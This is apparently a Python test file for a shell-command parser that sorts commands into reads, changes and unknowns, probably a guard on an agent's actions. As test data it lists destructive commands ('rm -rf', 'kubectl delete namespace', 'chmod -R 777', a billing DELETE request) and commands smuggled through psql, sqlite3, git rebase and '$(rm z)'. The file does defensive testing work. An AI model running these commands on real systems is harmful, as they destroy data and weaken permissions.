        """jq -n 'import "x" as $x {search: "/srv"}; $x'""",
        """jq -n '# a\n include "x"; 1'""",
        "sed '/[[:space:]]/w out' x",
        "sed 's/[[:digit:]/]/b/w out' x",
        "rg --pre ./x y",
        "rg -z y",
        "rg --hostname-bin=./x y",
        "fd -x rm",
        "fd . -X ./x",
        "xxd -ac x y",
        "git rebase -x 'rm x' main",
        "git rebase -i main",
        "git grep -Orm a",
        "git config user.name bob",
        "psql -c '\\! rm x'",
        "psql -c '\\dt \\! rm x'",
        "psql -c '\\d `rm x`'",
        "psql -c '\\dt\nDELETE FROM invoices'",
        "sqlite3 x.db '.shell rm x'",
        "sqlite3 x.db '.schema |rm x'",
    ],
)
def test_what_may_run_or_write_in_a_common_spelling_is_unknown(text: str) -> None:
    assert is_unknown(parse(text))


CHANGES = (
    "rm -rf build",
    "mv a b",
    "sed -i 's/a/b/' x",
    "echo hi > a.txt",
    "kubectl delete namespace old",
    "curl -X DELETE https://billing.example/customers/7",
    "find . -name '*.log' -delete",
    "psql -c 'delete from invoices'",
    "git push origin main",
    "chmod -R 777 dir",
)
BLANKS = (
    " ",
    "\t",
    "\n",
    "\\\n",
    "\r\n",
    "\u00a0",
    "\u2003",
    "\u200b",
    "\ufeff",
    "\x00",
    "\x0b",
    " # x\n",
    ";",
    "'",
    '"',
)


@given(text=st.sampled_from(CHANGES), at=st.integers(0, 60), blank=st.sampled_from(BLANKS))
def test_no_blank_quote_or_continuation_makes_a_change_a_read(text: str, at: int, blank: str) -> None:
    places = [index for index, character in enumerate(text) if character == " "]
    place = places[at % len(places)]
    for changed in (text[:place] + blank + text[place + 1 :], text[:at] + blank + text[at:], f"true && {text}"):
        reading = all(
            isinstance(effect, FileEffect | SqlEffect) and effect.verb is Verb.READ for effect in parse(changed).effects
        )
        # Cut in two, a command may become one that reads: `echo hi`, and then nothing but that is told.
        assert not reading or any(mark in changed for mark in ("\n", ";", "#"))


# A line break at the end

_PARSER = Parser(Language(tree_sitter_bash.language()))
_SHELL_WORDS = (
    *("a", "ls", "rm -rf /x", "cat /x-1.log", "|", "|", "|", "&&", "||", ";", "head -20", '"x y"', "'q'", "$(rm z)"),
    *(
        "(",
        ")",
        "{ ",
        "; }",
        "if",
        "then",
        "fi",
        "while",
        "do",
        "done",
        "for i in",
        "case x in",
        "esac",
        "a)",
        ";;",
        "x=1",
    ),
    *(">", "<", "<<<", "<<E", "\\", "2>&1", "#", "# c", "!", "[", "[[", "]", "]]", "test", "$x", "${x}", "$((1+2))"),
    *(
        "`ls`",
        "&",
        "function",
        "f()",
        "\n",
        "time",
        "*",
        "{a,b}",
        "~",
        "--",
        "xargs",
        "'",
        '"',
        "é",
        "psql -c 'select 1'",
    ),
)


def _tree(text: str, until: int) -> tuple[bool, list[tuple[str, int, int]]]:
    """Returns whether the grammar took the text, and its nodes, up to a byte."""
    root = _PARSER.parse(text.encode()).root_node
    nodes: list[tuple[str, int, int]] = []
    pending = list(root.children)
    while pending:
        node = pending.pop()
        if node.start_byte < until:
            nodes.append((node.type, node.start_byte, min(node.end_byte, until)))
        pending += node.children
    return root.has_error, nodes


def test_the_grammar_reads_a_script_alike_with_a_line_break_behind_it() -> None:
    draw = random.Random(5)
    taken = 0
    for _ in range(20_000):
        text = " ".join(draw.choices(_SHELL_WORDS, k=draw.randint(1, 9)))
        if may_end_in_a_break(text):
            size = len(text.encode())
            (wrong, nodes), (wrong_too, same) = _tree(text, size), _tree(text + "\n", size)
            assert wrong is wrong_too, text
            assert wrong or nodes == same, text
            taken += not wrong
    assert taken > 1_000


@pytest.mark.parametrize("text", ["", "cat <<E\nx\nE", "cat <<<x", "echo a\\", "echo a\\b", "a |", "a &", "echo x #"])
def test_no_line_break_is_put_where_it_could_mean_something(text: str) -> None:
    assert not may_end_in_a_break(text)
